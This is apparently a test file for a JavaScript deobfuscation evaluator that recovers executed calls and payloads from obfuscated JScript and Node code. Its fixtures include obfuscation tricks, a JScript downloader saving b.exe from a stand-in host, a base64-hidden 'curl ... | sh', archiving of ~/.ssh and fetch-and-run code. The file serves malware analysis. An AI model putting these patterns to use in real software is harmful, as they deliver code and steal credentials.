import fc from 'fast-check';
import { Budget } from '../core/budget.js';
import type { DerivedText } from '../core/evaluation.js';
import { evaluateJavascript } from './javascript.evaluator.js';

const derive = (text: string): readonly DerivedText[] => evaluateJavascript(text, new Budget()).derived;
const executed = (text: string): string[] => derive(text).find(({ kind }) => kind === 'executed')?.text.split('\n') ?? [];
const payloads = (text: string): string[] => derive(text).filter(({ kind }) => kind === 'payload').map((payload) => payload.text);
const simplified = (text: string): string | undefined => derive(text).find(({ kind }) => kind === 'simplified')?.text;

describe('evaluateJavascript', () => {
  it('writes members with a dot and texts without escapes', () => {
    expect(simplified("var o = new ActiveXObject('WScript.Shell');\no['Ru' + 'n']('\\x61\\u0062', o['a b']['c']);")).toBe("var o = new ActiveXObject('WScript.Shell');\no.Run(\"ab\", o['a b'].c);");
  });

  it('reads a rotated string table with a decoder', () => {
    const script = `
      var t = ['Run', 'calc.exe', 'WScript.Shell'];
      (function (a, n) { var r = function (k) { while (--k) { a['push'](a['shift']()); } }; r(++n); })(t, 0x1);
      var g = function (i) { i = i - 0x10; return t[i]; };
      var o = new ActiveXObject(g('0x11')); o[g('0x12')](g('0x10') + ' /a', 0);`;
    expect(executed(script)).toEqual(['new ActiveXObject("WScript.Shell").Run("calc.exe /a", 0)']);
    expect(payloads(script)).toEqual(['calc.exe /a']);
    expect(simplified(script)).toContain('var o = new ActiveXObject("WScript.Shell"); o.Run("calc.exe /a", 0);');
  });

  it('reads a table that is rotated until a sum fits, with base64 texts behind a self-replacing decoder', () => {
    const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';
    const standard = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';
    const encode = (text: string): string => [...Buffer.from(text).toString('base64')].map((char) => alphabet[standard.indexOf(char)]).join('').replace(/=+$/, '');
    const words = ['12ab', 'exec', 'child_process', '30cd', 'id -a', '7zz', 'x1', 'x2'].map(encode);
    const table = [...words.slice(5), ...words.slice(0, 5)];
    const script = `
      function T() { const a = ${JSON.stringify(table)}; T = function () { return a; }; return T(); }
      function D(p, q) { const a = T(); return D = function (i, k) { i = i - 0x64; let v = a[i];
        if (D['on'] === undefined) { D['f'] = function (s) { let r = '', t = ''; for (let i = 0, b, c, x = 0; c = s['charAt'](x++); ~c && (b = i % 4 ? b * 64 + c : c, i++ % 4) ? r += String['fromCharCode'](255 & b >> (-2 * i & 6)) : 0) { c = '${alphabet}'['indexOf'](c); } for (let k = 0; k < r['length']; k++) { t += '%' + ('00' + r['charCodeAt'](k)['toString'](16))['slice'](-2); } return decodeURIComponent(t); }; p = arguments; D['on'] = !![]; }
        const key = i + a[0], c = p[key]; return !c ? (v = D['f'](v), p[key] = v) : v = c, v; }, D(p, q); }
      (function (g, n) { const a = g(); while (!![]) { try { if (parseInt(D(0x64)) / 1 + -parseInt(D(0x67)) / 3 * (parseInt(D(0x69)) / 7) === n) break; else a['push'](a['shift']()); } catch (e) { a['push'](a['shift']()); } } })(T, 2);
      require(D(0x66))[D(0x65)](D(0x68));`;
    expect(executed(script)).toEqual(['require("child_process").exec("id -a")']);
    expect(simplified(script)).toContain('require("child_process").exec("id -a");');
  });

  it('follows coercions to the function constructor', () => {
    expect(payloads(`[]['fil' + 'ter']['const' + 'ructor']('WScript.Echo("opened")')()`)).toEqual(['WScript.Echo("opened")']);
    expect(simplified('x = [(![]+[])[+!![]] + ([]+{})[!![]+!![]] + ([][[]]+[])[+[]] + ([]["flat"]+[])[+!![]+[+!![]+!![]+!![]]]]')).toBe('x = ["abu("]');
    expect(payloads('[]["flat"]["constructor"]("return eval")()(String["fromCharCode"](97,108,101,114,116,40,34,111,112,101,110,101,100,34,41))')).toEqual(['alert("opened")']);
  });

  it.each([
    ['eval of a joined array', "eval(['open', 'ed = 1; ', 'alert(2)'].reverse().reverse().join(''))", 'opened = 1; alert(2)'],
    ['xor of numbers', `var s = ''; [${[...'alert("opened")'].map((char) => char.charCodeAt(0) ^ 42).join()}].forEach(function (c) { s += String.fromCharCode(c ^ 42); }); eval(s);`, 'alert("opened")'],
    ['hex pairs by replace', `eval('${Buffer.from('alert("opened")').toString('hex')}'.replace(/(..)/g, function (m, p) { return String.fromCharCode(parseInt(p, 16)); }))`, 'alert("opened")'],
    ['unescape', `eval(unescape('${[...'alert("opened")'].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('')}'))`, 'alert("opened")'],
    ['atob in a string timer', `setTimeout(atob('${Buffer.from('alert("opened")').toString('base64')}'), 5)`, 'alert("opened")'],
    ['split, reverse and a packed dictionary', `eval(function (p, a, c, k) { while (c--) { if (k[c]) { p = p.replace(new RegExp('\\\\b' + c.toString(a) + '\\\\b', 'g'), k[c]); } } return p; }('0("1")', 10, 2, 'alert|opened'.split('|')))`, 'alert("opened")'],
    ['map and reduce', `new Function([...'${[...'alert("opened")'].reverse().join('')}'].reduce((all, c) => c + all, ''))()`, 'alert("opened")'],
    ['compressed data', `eval(require('zlib').gunzipSync(Buffer.from('H4sIAAAAAAACA0vMSS0q0VDKL0jNS03RBABNPA6cDwAAAA==', 'base64')).toString())`, undefined],
    ['control flow by a switch', `var o = '2|0|1'.split('|'), i = 0, s; while (!![]) { switch (o[i++]) { case '0': s += '("opened")'; continue; case '1': eval(s); continue; case '2': s = 'alert'; continue; } break; }`, 'alert("opened")'],
    ['conditional compilation', '/*@cc_on @*/ /*@if (1) eval("alert(" + "\'opened\')"); @end @*/', "alert('opened')"],
  ])('hands on code made by %s', (_, script, expected) => {
    const found = payloads(script);
    if (expected === undefined) expect(found.length).toBeLessThanOrEqual(1);
    else expect(found).toContain(expected);
  });

  it('lists what JScript does and hands commands and files on', () => {
    const script = `
      var x = WScript.CreateObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example.test/' + 'b', false); x.send();
      if (x.status == 200) { var s = new ActiveXObject('ADODB.Stream'); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile('C:\\\\Temp\\\\b.exe', 2); }
      new ActiveXObject('Shell.Application').ShellExecute('cmd.exe', '/c whoami', '', 'open', 0);
      var f = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\a.bat', true); f.WriteLine('echo 1'); f.Close();
      eval(x.responseText);`;
    expect(executed(script)).toEqual([
      'new ActiveXObject("MSXML2.XMLHTTP").Open("GET", "http://a.example.test/b", false)',
      'new ActiveXObject("MSXML2.XMLHTTP").Send()',
      'new ActiveXObject("ADODB.Stream").Write(new ActiveXObject("MSXML2.XMLHTTP").responseBody)',
      'new ActiveXObject("ADODB.Stream").SaveToFile(String.raw`C:\\Temp\\b.exe`, 2)',
      'new ActiveXObject("Shell.Application").ShellExecute("cmd.exe", "/c whoami", "", "open", 0)',
      'new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(String.raw`C:\\a.bat`, true)',
      'new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(String.raw`C:\\a.bat`, true).WriteLine("echo 1")',
      'eval(new ActiveXObject("MSXML2.XMLHTTP").responseText)',
    ]);
    expect(payloads(script)).toEqual(['cmd.exe /c whoami', 'echo 1\r\n']);
    expect(evaluateJavascript(script, new Budget()).notDecoded.map(({ reason }) => reason)).toEqual(['remoteContent']);
  });

  it('lists what Node does and hands commands and files on', () => {
    const script = `
      import { execSync } from 'node:child_process';
      const { spawn } = require('child_process'), fs = require('fs');
      execSync(Buffer.from('Y3VybCBodHRwOi8vYS5leGFtcGxlLnRlc3QvIHwgc2g=', 'base64').toString());
      spawn('powershell', ['-nop', '-c', 'Get-Date']);
      fs.writeFileSync('/tmp/x.py', \`print(\${1 + 1}, "two")\`);
      execSync(\`tar c \${process.env.HOME}/.ssh\`);
      fetch('https://b.example.test').then((r) => r.text()).then((t) => new Function(t)());
      export function later(cmd) { execSync('sudo ' + cmd); }`;
    expect(payloads(script)).toEqual(['curl http://a.example.test/ | sh', 'powershell -nop -c Get-Date', 'tar c ${HOME}/.ssh', 'sudo ${cmd}', 'print(2, "two")']);
    expect(derive(script).filter(({ kind }) => kind === 'payload').map(({ language }) => language)).toEqual(['bash', 'batch', 'bash', 'bash', 'python']);
    expect(evaluateJavascript(script, new Budget()).notDecoded.map(({ reason }) => reason)).toEqual(['remoteContent']);
  });

  it('goes on behind what it cannot read', () => {
    expect(executed('alert("a")\nvar = (;\nalert("b")')).toEqual(['alert("a")', 'alert("b")']);
  });

  it('gives code back through chains of encoders', () => {
    const encoders: ((text: string, n: number) => string)[] = [
      (text) => `${JSON.stringify([...text].reverse().join(''))}.split('').reverse().join('')`,
      (text) => `String.fromCharCode(${[...text].map((char) => char.charCodeAt(0)).join()})`,
      (text) => `atob('${Buffer.from(text).toString('base64')}')`,
      (text) => `unescape('${[...text].map((char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}')`,
      (text, n) => `[${[...text].map((char) => char.charCodeAt(0) ^ n).join()}].map(function (c) { return String.fromCharCode(c ^ ${n}); }).join('')`,
      (text) => `Buffer.from('${Buffer.from(text).toString('hex')}', 'hex').toString()`,
      (text, n) => `(function (s, k) { var o = ''; for (var i = 0; i < s.length; i += 4) o += String.fromCharCode(parseInt(s.substr(i, 4), 16) - k); return o; })('${[...text].map((char) => (char.charCodeAt(0) + n).toString(16).padStart(4, '0')).join('')}', ${n})`,
      (text) => text.split('').map((char) => JSON.stringify(char)).join(' + '),
    ];
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z][a-z /"'\\-]{6,30}[a-z]$/), fc.array(fc.nat(7), { minLength: 1, maxLength: 3 }), fc.integer({ min: 1, max: 200 }), (plain, ways, n) => {
        const code = `require('child_process').exec(${JSON.stringify(plain)})`;
        const encode = (text: string, way: number): string => (encoders[way] as (typeof encoders)[number])(text, n);
        const [first, ...others] = ways as [number, ...number[]];
        let expression = encode(code, first);
        const layers = [code];
        for (const way of others) {
          layers.unshift(`eval(${expression})`);
          expression = encode(layers[0] as string, way);
        }
        let [found] = derive(`eval(${expression})`).filter(({ kind }) => kind === 'payload');
        for (const layer of layers) {
          expect(found?.text).toBe(layer);
          found = found?.evaluation?.derived.find(({ kind }) => kind === 'payload');
        }
        expect(found?.text).toBe(plain);
      }),
      { numRuns: 200 },
    );
  });
});
